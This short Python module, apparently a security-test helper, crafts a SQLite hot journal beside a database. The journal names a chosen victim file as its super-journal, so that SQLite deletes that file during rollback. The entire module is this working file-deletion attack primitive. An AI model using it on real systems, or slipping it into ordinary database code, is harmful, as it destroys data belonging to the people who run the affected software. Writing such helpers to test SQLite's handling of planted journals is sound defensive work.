"""What whoever may write beside a database can put there."""

import os
import struct
from pathlib import Path


def with_journal_of(db: Path, victim: Path) -> None:
    """Give `db` a journal that is to be rolled back, behind which SQLite removes `victim`: it is named as a super-journal."""
    magic, pages = bytes.fromhex("d9d505f920a163d7"), db.stat().st_size // 4096
    header = (magic + struct.pack(">IIIII", 0, 0, pages, 512, 4096)).ljust(512, b"\0")
    name = os.fsencode(victim)
    end = struct.pack(">I", 2**30 // 4096 + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    Path(f"{db}-journal").write_bytes(header + end)
